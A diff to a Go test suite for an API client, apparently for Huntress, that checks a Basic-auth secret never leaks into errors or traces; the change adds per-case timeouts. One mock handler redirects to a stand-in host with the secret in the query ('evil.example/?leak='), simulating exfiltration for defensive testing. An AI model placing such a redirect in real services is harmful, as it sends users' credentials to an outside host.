@@ -26,7 +26,9 @@ func echo(status int, contentType, format string) http.HandlerFunc {
 	return func(w http.ResponseWriter, r *http.Request) {
 		_, secret, _ := r.BasicAuth()
 		w.Header().Set("Content-Type", contentType)
-		w.Header().Set("Retry-After", "0")
+		if w.Header().Get("Retry-After") == "" {
+			w.Header().Set("Retry-After", "0")
+		}
 		if status == http.StatusFound {
 			w.Header().Set("Location", "https://evil.example/?leak="+secret)
 		}
@@ -42,6 +44,10 @@ func TestSecretNeverReachesAnErrorOrTheTrace(t *testing.T) {
 		handler http.HandlerFunc
 		opts    func(*huntress.Options)
 		want    error
+		// wait is the caller's deadline: generous, so that a slow machine
+		// never turns an answer into a timeout, and short only where the
+		// timeout is the case.
+		wait time.Duration
 	}{
 		{name: "401 JSON", handler: echo(401, "application/json", `{"error":"bad header %s secret %s"}`), want: huntress.ErrUnauthorized},
 		{name: "403 HTML", handler: echo(403, "text/html", `<html><title>Denied %s / %s</title></html>`), want: huntress.ErrUnauthorized},
@@ -50,13 +56,15 @@ func TestSecretNeverReachesAnErrorOrTheTrace(t *testing.T) {
 			w.Header().Set("Retry-After", "3600")
 			echo(429, "application/json", `{"message":"%s %s"}`)(w, r)
 		}, want: huntress.ErrRateLimited},
-		{name: "503 every time", handler: echo(503, "application/json", `{"errors":["%s","%s"]}`)},
+		{name: "503 every time", handler: echo(503, "application/json", `{"errors":["%s","%s"]}`),
+			wait: 3 * time.Second},
 		{name: "200 HTML", handler: echo(200, "text/html", `<html><title>Login %s %s</title></html>`), want: huntress.ErrUnexpectedAnswer},
 		{name: "200 not JSON", handler: echo(200, "application/json", `{"organizations": %s %s`), want: huntress.ErrUnexpectedAnswer},
 		{name: "302 redirect", handler: echo(302, "text/html", `<a href="?%s%s">moved</a>`)},
 		{name: "too large", handler: echo(200, "application/json", strings.Repeat(" ", 4096)+`{"x":"%s%s"}`),
 			opts: func(o *huntress.Options) { o.MaxBody = 1024 }, want: huntress.ErrTooLarge},
-		{name: "timeout", handler: func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, want: huntress.ErrTimeout},
+		{name: "timeout", handler: func(w http.ResponseWriter, r *http.Request) { <-r.Context().Done() }, want: huntress.ErrTimeout,
+			wait: 500 * time.Millisecond},
 		{name: "unreachable", opts: func(o *huntress.Options) { o.BaseURL = closedAddress(t) }, want: huntress.ErrUnreachable},
 		{name: "credentials in base URL", opts: func(o *huntress.Options) {
 			o.BaseURL = "https://" + testKey + ":" + testSecret + "@api.huntress.io"
@@ -75,7 +83,11 @@ func TestSecretNeverReachesAnErrorOrTheTrace(t *testing.T) {
 			if tc.opts != nil {
 				tc.opts(&opts)
 			}
-			_, err := huntress.New(opts).Organizations(deadline(t, 500*time.Millisecond))
+			wait := tc.wait
+			if wait == 0 {
+				wait = 20 * time.Second
+			}
+			_, err := huntress.New(opts).Organizations(deadline(t, wait))
 			if err == nil {
 				t.Fatal("no error")
 			}
